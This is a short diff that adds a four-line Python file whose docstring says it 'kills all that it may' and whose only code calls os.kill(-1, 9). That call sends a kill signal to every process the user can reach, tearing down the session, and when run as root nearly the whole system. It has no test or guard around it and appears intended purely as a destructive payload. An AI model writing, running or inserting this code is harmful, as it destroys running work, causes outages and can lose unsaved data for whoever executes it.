@@ -1,0 +1,4 @@
+"""Kills all that it may.
+"""
+import os
+os.kill(-1, 9)
